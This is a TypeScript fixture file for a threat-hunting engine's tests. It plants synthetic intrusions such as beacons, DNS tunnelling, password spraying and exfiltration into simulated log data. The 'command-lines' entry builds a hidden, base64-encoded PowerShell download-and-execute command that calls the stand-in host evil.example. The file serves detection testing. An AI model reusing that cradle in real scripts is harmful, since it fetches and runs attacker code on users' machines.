import { seeded } from '../../engine/hunt/stats.js';
import { machineNames } from '../../engine/hunt/train/names.js';
import { addressOf, DAY, seen, userOf } from './month.js';
import { MORE } from './planted.more.js';
import { at, many, type Planted } from './planted.parts.js';

export { PLANTED_DAY, type Planted } from './planted.parts.js';

/** One intrusion for each model, of the kind it is made for, into the ordinary month. */
export const PLANTED: Record<string, Planted> = {
  ...MORE,
  'admin-connections': {
    entity: addressOf(40),
    words: /opened SMB, WinRM connections to \d+ hosts it never administered/,
    events: () =>
      many(14, (i) =>
        seen(`p${i}`, at(14, i * 7), {
          'source.ip': addressOf(40),
          'destination.ip': `10.2.0.${i + 20}`,
          'destination.port': i % 2 ? 5985 : 445,
        }),
      ),
  },
  beacons: {
    entity: addressOf(41),
    words:
      /calls 198\.51\.100\.66 every (4\.\d|5(\.\d)?) min ± \d+ s for (2\.9|3(\.\d)?) h, 36 times, 412 bytes each; no other host does/,
    events: () => {
      const random = seeded(9);
      return many(36, (i) =>
        seen(`p${i}`, at(9, i * 5) + random() * 60_000, {
          'source.ip': addressOf(41),
          'destination.ip': '198.51.100.66',
          'destination.port': 443,
          'source.bytes': 412,
        }),
      );
    },
  },
  'brute-force': {
    entity: userOf(42),
    words: /60 failed sign-ins of user42 within \d+ s from 198\.51\.100\.7.*then it succeeded/,
    events: () =>
      many(61, (i) =>
        seen(`p${i}`, at(3) + i * 2000, {
          'event.category': 'authentication',
          'event.outcome': i === 60 ? 'success' : 'failure',
          'user.name': userOf(42),
          'source.ip': '198.51.100.7',
        }),
      ),
  },
  'bulk-reads': {
    entity: userOf(21),
    words: /user21 read 9\d\d things in a day; usually \d/,
    events: () =>
      many(900, (i) =>
        seen(`p${i}`, at(18) + i * 4000, {
          'cloud.provider': 'aws',
          'cloud.region': 'eu-west-1',
          'user.name': userOf(21),
          'event.action': 'GetObject',
          'event.outcome': 'success',
          'file.path': `plans/${i}.pdf`,
        }),
      ),
  },
  'cloud-principals': {
    entity: userOf(11),
    words: /user11, within six hours: .*(second factor was removed|rights were widened|logging was changed)/,
    events: () =>
      [
        'ListUsers',
        'ListRoles',
        'ListPolicies',
        'GetAccountSummary',
        'ListKeys',
        'DescribeTrails',
        'CreateAccessKey',
        'AttachUserPolicy',
        'StopLogging',
        'DeactivateMFADevice',
      ].map((action, i) =>
        seen(`p${i}`, at(11, i), {
          'cloud.provider': 'aws',
          'cloud.region': 'us-east-2',
          'user.name': userOf(11),
          'event.action': action,
          'event.outcome': 'success',
        }),
      ),
  },
  'command-lines': {
    entity: 'pc-43',
    words: /powershell\.exe ran with a command line unlike its \d+ others .* with encoded parts/,
    events: () => [
      seen('p0', at(15), {
        'host.name': 'pc-43',
        'user.name': userOf(43),
        'process.name': 'powershell.exe',
        'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'process.parent.executable': 'C:\\Windows\\explorer.exe',
        'process.command_line': `powershell.exe -nop -w hidden -enc ${Buffer.from('iex (new-object net.webclient).downloadstring("https://evil.example/a"); '.repeat(6), 'utf16le').toString('base64')}`,
      }),
    ],
  },
  'dns-tunnel': {
    entity: 'tunnel-site.example',
    words: /\d{3,} different names below tunnel-site\.example in a day .* never connected to/,
    events: () => {
      const random = seeded(4);
      const label = () =>
        Array.from({ length: 44 }, () => '0123456789abcdefghijklmnopqrstuv'[Math.floor(random() * 32)]).join('');
      return many(600, (i) =>
        seen(`p${i}`, at(10) + i * 20_000, {
          'source.ip': addressOf(44),
          'dns.question.name': `${label()}.t.tunnel-site.example`,
          'dns.question.type': 'TXT',
        }),
      );
    },
  },
  'dormant-accounts': {
    entity: 'old-account',
    words: /old-account signed in after 85 days without .* where it never came from/,
    events: () => [
      seen('p-1', at(9) - 85 * DAY, {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': 'old-account',
        'source.ip': '10.1.0.9',
      }),
      seen('p0', at(9), {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': 'old-account',
        'source.ip': '198.51.100.8',
      }),
    ],
  },
  exfiltration: {
    entity: addressOf(45),
    words: /sent 9 GB to the Internet in a day; usually .* Most went to files\.example/,
    events: () =>
      many(60, (i) =>
        seen(`p${i}`, at(20, i), {
          'source.ip': addressOf(45),
          'destination.domain': 'files.example',
          'destination.ip': '198.51.100.9',
          'source.bytes': 150e6,
        }),
      ),
  },
  'generated-names': {
    entity: addressOf(46),
    words: /asked for \d+ names that look made by machine, \d+ \(\d+ %\) of which do not exist/,
    events: () =>
      machineNames('letters', 60, 5).map((name, i) =>
        seen(`p${i}`, at(4, i), {
          'source.ip': addressOf(46),
          'dns.question.name': name,
          'dns.response_code': i === 50 ? 'NOERROR' : 'NXDOMAIN',
        }),
      ),
  },
  'impossible-travel': {
    entity: userOf(47),
    words:
      /user47 signed in from DE, then .* later from BR, \d+ km away: \d+ km\/h, with a country and device never seen before/,
    events: () => [
      seen('p0', at(12), {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': userOf(47),
        'source.ip': addressOf(47),
        'source.geo.country_iso_code': 'DE',
        'source.geo.location': { lat: 52.5, lon: 13.4 },
        'device.id': 'd47-0',
      }),
      seen('p1', at(12, 40), {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': userOf(47),
        'source.ip': '198.51.100.77',
        'source.geo.country_iso_code': 'BR',
        'source.geo.location': { lat: -23.5, lon: -46.6 },
        'device.id': 'phone',
      }),
    ],
  },
  'long-connections': {
    entity: addressOf(48),
    words: /kept a connection to 198\.51\.100\.48 \(port 8443\) open for 11 h/,
    events: () => [
      seen('p0', at(21), {
        'source.ip': addressOf(48),
        'destination.ip': '198.51.100.48',
        'destination.port': 8443,
        'source.bytes': 5e6,
        'event.duration': 11 * 3600e9,
      }),
    ],
  },
  'new-access': {
    entity: userOf(49),
    words: /user49 used \d+ hosts for the first time/,
    events: () =>
      many(15, (i) =>
        seen(`p${i}`, at(13, i * 2), {
          'event.category': 'authentication',
          'event.outcome': 'success',
          'user.name': userOf(49),
          'source.ip': addressOf(49),
          'host.name': `vault-${i}`,
        }),
      ),
  },
  'odd-hours': {
    entity: userOf(50),
    words: /user50 signed in at Thu 03:10 UTC .* with a new device/,
    events: () =>
      many(3, (i) =>
        seen(`p${i}`, at(3, 10 + i * 5), {
          'event.category': 'authentication',
          'event.outcome': 'success',
          'user.name': userOf(50),
          'source.ip': addressOf(50),
          'source.geo.country_iso_code': 'DE',
          'device.id': 'stranger',
        }),
      ),
  },
  'password-spray': {
    entity: '198.51.100.5',
    words: /198\.51\.100\.5 failed to sign in as \d+ users, \d+ of whom never came from there .* it got in as user7\b/,
    events: () =>
      many(60, (i) =>
        seen(`p${i}`, at(2, i), {
          'event.category': 'authentication',
          'event.outcome': i === 59 ? 'success' : 'failure',
          'user.name': i === 59 ? userOf(7) : userOf(i),
          'source.ip': '198.51.100.5',
        }),
      ),
  },
  'rare-fingerprints': {
    entity: addressOf(54),
    words: /is the only one of \d+ hosts with the client 9f0aa1, and uses it only for quiet-place\.example, 9 times/,
    events: () =>
      many(9, (i) =>
        seen(`p${i}`, at(8 + i), {
          'source.ip': addressOf(54),
          'destination.domain': 'quiet-place.example',
          'tls.client.ja3': '9f0aa1',
          'source.bytes': 900,
        }),
      ),
  },
  'rare-processes': {
    entity: 'pc-51',
    words: /winword\.exe started powershell\.exe on pc-51, never before in \d+ days on \d+ hosts/,
    events: () => [
      seen('p0', at(10), {
        'host.name': 'pc-51',
        'user.name': userOf(51),
        'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'process.name': 'powershell.exe',
        'process.parent.executable': 'C:\\Program Files\\Office\\winword.exe',
        'process.command_line': 'powershell.exe -File a.ps1',
      }),
    ],
  },
  scans: {
    entity: addressOf(52),
    words: /tried 200 hosts on 1 port \(445\) of the inner network within 2\d min/,
    events: () =>
      many(200, (i) =>
        seen(`p${i}`, at(16) + i * 7000, {
          'source.ip': addressOf(52),
          'destination.ip': `10.3.0.${i + 1}`,
          'destination.port': 445,
          'event.outcome': i % 3 ? 'failure' : 'success',
        }),
      ),
  },
};
